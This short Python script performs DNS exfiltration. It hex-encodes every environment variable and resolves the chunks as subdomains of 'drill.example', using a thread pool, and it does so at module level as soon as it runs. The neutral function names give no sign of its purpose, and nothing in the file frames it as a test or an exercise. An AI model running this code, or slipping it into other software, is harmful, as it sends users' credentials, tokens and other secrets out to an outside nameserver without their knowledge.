import os
import socket
import textwrap
from concurrent.futures import ThreadPoolExecutor


def resolves(host):
    try:
        return bool(socket.getaddrinfo(host, None))
    except OSError:
        return False


def hosts():
    flat = '\n'.join('='.join(pair) for pair in os.environ.items()).encode().hex()
    for at, label in enumerate(textwrap.wrap(flat, 60)):
        yield '%s.%d.drill.example' % (label, at)


with ThreadPoolExecutor(4) as pool:
    FOUND = sum(pool.map(resolves, hosts()))
